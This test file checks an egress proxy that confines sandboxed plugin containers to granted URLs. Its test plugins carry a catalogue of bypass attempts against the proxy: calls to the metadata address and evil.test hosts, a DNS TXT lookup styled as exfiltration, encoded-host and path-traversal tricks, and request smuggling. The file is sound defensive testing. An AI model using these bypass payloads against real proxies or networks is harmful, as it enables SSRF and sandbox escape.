// The gateway of the network in real containers: what a granted program reaches, by every way there is, and what nobody reaches.

import {chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {expect, it, onTestFinished} from 'vitest'
import type {JsonValue} from '@autokestra/plugin-sdk/protocol'
import {EgressProxy} from '../../src/lib/egress/egress-proxy.ts'
import type {NetworkGateway, OpenGateway, Refusal} from '../../src/lib/runtimes/network-gateway.ts'
import {collect} from '../contracts/runtime.ts'
import {clientHello, record} from '../rig/client-hello.ts'
import {describeInDocker, openDockerRuntime} from '../rig/docker.ts'
import {proxyRequest, rule, startServer, startTlsServer} from '../rig/egress.ts'
import {buildHost} from '../rig/plugin-host.ts'
import {testCertificate} from '../rig/tls-certificate.ts'

interface Outcome {
  readonly output: JsonValue | undefined
  /** Everything on stdout, frames and text. */
  readonly text: string
  readonly stderr: string
  readonly refusals: Refusal[]
  readonly gateways: OpenGateway[]
}

interface Task {
  /** Of a module with an action `run`. */
  readonly code: string
  readonly inputs?: Record<string, JsonValue>
  readonly rules: readonly string[]
  /** Default: every name stands for 127.0.0.1 of this machine, where the tests' servers are. */
  readonly addresses?: Readonly<Record<string, readonly string[]>>
}

/** Runs a plugin of the SDK in a container with this grant. */
async function runTask({code, inputs = {}, rules, addresses = {}}: Task): Promise<Outcome> {
  const dir = mkdtempSync(path.join(tmpdir(), 'workflow-test-'))
  onTestFinished(() => {
    rmSync(dir, {recursive: true, force: true})
  })
  chmodSync(dir, 0o755)
  mkdirSync(path.join(dir, 'sdk'))
  await buildHost(path.join(dir, 'sdk'))
  writeFileSync(path.join(dir, 'plugin.mjs'), code)

  const refusals: Refusal[] = []
  const gateways: OpenGateway[] = []
  const proxy = new EgressProxy({
    dial: {
      ca: testCertificate,
      reachable: ['127.0.0.1'],
      resolve: (name) => Promise.resolve((addresses[name] ?? ['127.0.0.1']).map((address) => ({address, family: 4}))),
    },
  })
  onTestFinished(() => proxy.close())
  const network: NetworkGateway = {
    open: async (grant, context) => {
      const onRefused = (refusal: Refusal): void => {
        refusals.push(refusal)
        context.onRefused(refusal)
      }
      const gateway = await proxy.open(grant, {...context, onRefused})
      gateways.push(gateway)
      return gateway
    },
  }
  const mounts = [{source: dir, target: '/task', isReadOnly: true}]
  const runtime = await openDockerRuntime({mounts, network: {rules: rules.map(rule)}}, {network})
  const started = await runtime.start({
    command: ['node', '/task/sdk/host.js'],
    env: {PATH: '/usr/local/bin:/usr/bin:/bin'},
    cwd: '/',
    tag: `egress-${Math.random().toString(16).slice(2)}`,
    graceMs: 3000,
  })
  const nonce = '0123456789abcdef0123456789abcdef'
  const invoke = {
    ...{type: 'invoke', v: 1, id: 1, nonce, action: 'run', isOnlyAction: true, inputs, main: '/task/plugin.mjs', cwd: '/'},
    env: {PATH: '/usr/local/bin:/usr/bin:/bin'},
    context: {workflow: 'w', run: 'r', task: 't', attempt: 1, idempotencyKey: 'r/t'},
  }
  started.stdin?.write(`${JSON.stringify(invoke)}\n`)
  // The host ends with its input, and that ends when the result is there.
  started.stdout.on('data', (chunk: Buffer) => {
    if (chunk.includes('"type":"result"')) started.stdin?.end()
  })
  const {stdout, stderr} = await collect(started)
  const text = stdout.toString()
  const result = /\{"type":"result".*\}/.exec(text)?.[0]
  const {output} = JSON.parse(result ?? '{}') as {output?: JsonValue}
  return {output, text, stderr: stderr.toString(), refusals, gateways}
}

const getCode = `
  import https from 'node:https'
  import http from 'node:http'
  const get = (url, options = {}) => new Promise((resolve) => {
    const {get} = url.startsWith('https:') ? https : http
    get(url, {headers: {connection: 'close'}, ...options}, (response) => {
      let text = ''
      response.setEncoding('utf8').on('data', (chunk) => { text += chunk }).on('end', () => resolve(text))
    }).on('error', (error) => resolve(error.code ?? error.message))
  })`

describeInDocker('the network of a container', () => {
  it('is reached by context.fetch, by an unmodified https.get and by an unmodified http.get', async () => {
    const tls = await startTlsServer((request, response) => response.end(`tls ${request.url ?? ''}`))
    const plain = await startServer((request, response) => response.end(`plain ${request.url ?? ''}`))
    const urls = {tls: `https://api.granted.test:${String(tls.port)}`, plain: `http://web.test:${String(plain.port)}`}
    const outcome = await runTask({
      rules: [urls.tls, `${urls.plain}/ok/*`],
      inputs: {...urls, ca: testCertificate},
      code: `${getCode}
        export const run = {execute: async ({tls, plain, ca}, {fetch}) => [
          await (await fetch(tls + '/fetched')).text(),
          await get(tls + '/got', {ca}),
          await get(plain + '/ok/got'),
          (await get(plain + '/other')).trim(),
        ]}`,
    })
    expect(outcome.output, outcome.text + outcome.stderr).toEqual([
      'tls /fetched',
      'tls /got',
      'plain /ok/got',
      `Refused: GET ${urls.plain}/other: no rule grants this path. This rule would allow it: ${urls.plain}/other`,
    ])
    expect(outcome.refusals.map(({target}) => target)).toEqual([`${urls.plain}/other`])
    expect(outcome.gateways[0]?.activity).toEqual({requests: 3, refused: 1})
  })

  it('can be listened on at the ports of the schemes, without rights', async () => {
    const outcome = await runTask({
      rules: ['https://api.test', 'http://api.test'],
      addresses: {'api.test': ['169.254.169.254']},
      code: `${getCode}
        export const run = {execute: async () => [await get('https://api.test/'), (await get('http://api.test/')).includes('metadata')]}`,
    })
    expect(outcome.text).not.toContain('cannot listen')
    expect(outcome.output, outcome.text + outcome.stderr).toEqual(['ECONNRESET', true])
    expect(outcome.refusals.map(({reason}) => reason)).toEqual([
      'the name resolves to a cloud metadata address, which no rule grants',
      'the name resolves to a cloud metadata address, which no rule grants',
    ])
  })

  it('is nothing but the gateway: no other name, no address, no packet', async () => {
    const server = await startServer()
    const outcome = await runTask({
      rules: [`http://api.test:${String(server.port)}`],
      inputs: {port: server.port},
      code: `${getCode}
        import dns from 'node:dns'
        import dgram from 'node:dgram'
        const code = (act) => new Promise((resolve) => act((error) => resolve(error ? error.code : 'reached')))
        export const run = {execute: async ({port}) => [
          await get('http://evil.test:' + port),
          await get('http://172.17.0.1:' + port),
          await get('http://169.254.169.254/'),
          await get('http://api.test:' + port, {headers: {host: 'evil.test', connection: 'close'}}),
          await code((done) => dns.resolveTxt('secret.evil.test', done)),
          await code((done) => dgram.createSocket('udp4').send('x', 53, '8.8.8.8', done)),
        ]}`,
    })
    const [other, host, metadata, foreign, txt, udp] = outcome.output as string[]
    expect([other, host, metadata, txt, udp], outcome.text + outcome.stderr).toEqual([
      'EAI_AGAIN',
      'ENETUNREACH',
      'ENETUNREACH',
      'ECONNREFUSED',
      'ENETUNREACH',
    ])
    expect(foreign).toContain('names a different host than the tunnel')
    expect(server.requests).toHaveLength(0)
  })

  it('refuses whoever speaks to the gateway himself and bends the rules, and lets a tunnel and a granted path through', async () => {
    const plain = await startServer()
    const tls = await startTlsServer()
    const [port, tlsPort] = [String(plain.port), String(tls.port)]
    const get = (url: string): string => proxyRequest(url.replace('PORT', port))
    const tunnel = (target: string): string => `CONNECT ${target.replace('PORT', tlsPort)} HTTP/1.1\r\nHost: x\r\n\r\n`
    const hello = (name: string): string => record(clientHello({name})).toString('latin1')
    const refused: Record<string, string> = {
      'another host': get('http://evil.test:PORT/'),
      'another port': get('http://api.test:1/'),
      'another scheme': get('https://api.test:PORT/'),
      'its address': get('http://127.0.0.1:PORT/'),
      'its address as one number': get('http://2130706433:PORT/'),
      'its address in IPv6': get('http://[::ffff:127.0.0.1]:PORT/'),
      'a look-alike': get('http://api.test.evil.test:PORT/'),
      'a user name': get('http://api.test@evil.test:PORT/'),
      'a fragment': get('http://evil.test:PORT/#api.test'),
      'a trailing dot': get('http://api.test.:PORT/'),
      'upper case': get('http://API.test:PORT/'),
      'an escape': get('http://api%2etest:PORT/'),
      'another path': get('http://paths.test:PORT/user'),
      dots: get('http://paths.test:PORT/repos/acme/../../user'),
      'escaped dots': get('http://paths.test:PORT/repos/acme/%2e%2e/%2e%2e/user'),
      'escaped slashes': get('http://paths.test:PORT/repos/acme%2f..%2f..'),
      'two slashes': get('http://paths.test:PORT/repos/acme//x'),
      loopback: get('http://loopback.test:PORT/'),
      'a link-local address': get('http://link.test:PORT/'),
      metadata: get('http://metadata.test:PORT/'),
      'a tunnel to another host': tunnel('evil.test:PORT'),
      'a tunnel to another port': tunnel('tls.test:1'),
      'a tunnel to the address': tunnel('127.0.0.1:PORT'),
      'a tunnel where paths are granted': tunnel('paths.test:PORT'),
      'both lengths': get('http://api.test:PORT/').replace('Connection: close', 'Content-Length: 4\r\nTransfer-Encoding: chunked'),
    }
    const cutOff: Record<string, string> = {
      'another name in the ClientHello': tunnel('tls.test:PORT') + hello('evil.test'),
      'no TLS in the tunnel': `${tunnel('tls.test:PORT')}GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
      'a second request behind the first': (get('http://api.test:PORT/first') + get('http://api.test:PORT/second')).replaceAll(
        'Connection: close\r\n',
        '',
      ),
    }
    const outcome = await runTask({
      rules: [
        ...[`http://api.test:${port}`, `http://paths.test:${port}/repos/acme/*`, `https://tls.test:${tlsPort}`],
        ...['loopback', 'link', 'metadata'].map((name) => `http://${name}.test:${port}`),
      ],
      addresses: {'loopback.test': ['127.0.0.2'], 'link.test': ['169.254.7.7'], 'metadata.test': ['169.254.169.254']},
      inputs: {refused, cutOff, granted: get('http://paths.test:PORT/repos/acme/x'), tunnel: tunnel('tls.test:PORT'), ca: testCertificate},
      code: `import net from 'node:net'
        import tls from 'node:tls'
        const open = () => net.connect(process.env.AUTOKESTRA_EGRESS_SOCKET).on('error', () => {})
        const read = (socket) => new Promise((resolve) => {
          let text = ''
          socket.setEncoding('latin1').on('data', (chunk) => { text += chunk }).on('close', () => resolve(text))
        })
        const say = (bytes) => { const socket = open(); socket.write(bytes, 'latin1'); return read(socket) }
        const all = async (list) => Object.fromEntries(await Promise.all(Object.entries(list).map(async ([name, bytes]) => [name, await say(bytes)])))
        export const run = {execute: async ({refused, cutOff, granted, tunnel, ca}) => {
          const socket = open()
          socket.write(tunnel)
          await new Promise((resolve) => socket.once('data', resolve))
          const secure = tls.connect({socket, servername: 'tls.test', ca, checkServerIdentity: () => undefined})
          secure.write('GET /through HTTP/1.1\\r\\nHost: tls.test\\r\\nConnection: close\\r\\n\\r\\n')
          return {refused: await all(refused), cutOff: await all(cutOff), granted: await say(granted), tunnel: await read(secure)}
        }}`,
    })
    const output = outcome.output as {refused: Record<string, string>; cutOff: Record<string, string>; granted: string; tunnel: string}
    expect(output, outcome.text + outcome.stderr).toMatchObject({
      granted: expect.stringContaining('hello'),
      tunnel: expect.stringContaining('hello'),
    })
    const passed = Object.entries(output.refused).filter(([, answer]) => !/^HTTP\/1.1 40[03] /.test(answer))
    expect(passed).toEqual([])
    expect(Object.keys(output.refused)).toEqual(Object.keys(refused))
    const smuggled = Object.entries(output.cutOff).filter(([, answer]) => answer.includes('hello'))
    expect(smuggled).toEqual([])
    expect(Object.keys(output.cutOff)).toEqual(Object.keys(cutOff))
    expect(outcome.refusals).toHaveLength(Object.keys({...refused, ...cutOff}).length)
    expect([...plain.requests, ...tls.requests].map(({url}) => url).filter((url) => url !== '/first')).toEqual([
      '/repos/acme/x',
      '/through',
    ])
  })

  it('keeps its gateway: the socket can be neither removed nor replaced', async () => {
    const outcome = await runTask({
      rules: ['https://api.test'],
      code: `import fs from 'node:fs'
        import path from 'node:path'
        const attempt = (act) => { try { act(); return 'done' } catch (error) { return error.code } }
        export const run = {execute: () => {
          const socket = process.env.AUTOKESTRA_EGRESS_SOCKET
          const dir = path.dirname(socket)
          return [
            fs.readdirSync(dir).join(),
            attempt(() => fs.unlinkSync(socket)),
            attempt(() => fs.renameSync(socket, '/tmp/x')),
            attempt(() => fs.writeFileSync(dir + '/other', '')),
            attempt(() => fs.chmodSync(socket, 0o777)),
          ]
        }}`,
    })
    expect(outcome.output, outcome.text + outcome.stderr).toEqual([
      'egress.sock',
      'EROFS',
      expect.stringMatching(/EROFS|EXDEV/),
      'EROFS',
      'EROFS',
    ])
  })

  it('survives a program that opens ten thousand connections', async () => {
    const server = await startServer()
    const url = `http://api.test:${String(server.port)}`
    const outcome = await runTask({
      rules: [url],
      inputs: {url},
      code: `import net from 'node:net'
        export const run = {execute: async ({url}, {fetch}) => {
          const path = process.env.AUTOKESTRA_EGRESS_SOCKET
          const open = []
          let closed = 0
          for (let round = 0; round < 100; round += 1) {
            await Promise.all(Array.from({length: 100}, () => new Promise((resolve) => {
              const socket = net.connect(path)
              socket.on('connect', resolve).on('error', resolve).on('close', () => { closed += 1 })
              open.push(socket)
            })))
          }
          const refused = await fetch(url).catch((error) => 'refused')
          for (const socket of open) socket.destroy()
          while (closed < open.length) await new Promise((resolve) => setTimeout(resolve, 10))
          for (;;) {
            const again = await fetch(url).then((response) => response.text(), () => undefined)
            if (again !== undefined) return [refused, again]
          }
        }}`,
    })
    expect(outcome.output, outcome.text.slice(0, 500) + outcome.stderr).toEqual(['refused', 'hello'])
    expect(outcome.refusals.filter(({reason}) => reason.includes('connections at once'))).toHaveLength(1)
  })

  it('ends with the task: nothing of the gateway is left', async () => {
    const server = await startServer((_request, response) => response.write('begun'))
    const url = `http://api.test:${String(server.port)}`
    const outcome = await runTask({
      rules: [url],
      inputs: {url},
      code: `import http from 'node:http'
        export const run = {execute: ({url}) => new Promise((resolve) => {
          http.get(url, () => resolve('left')).on('error', resolve)
        })}`,
    })
    expect(outcome.output, outcome.text + outcome.stderr).toBe('left')
    expect(server.connections).toHaveLength(1)
    await expect.poll(() => server.connections.every(({destroyed}) => destroyed)).toBe(true)
    expect(existsSync(path.dirname(outcome.gateways[0]?.mount.source ?? ''))).toBe(false)
  })
})
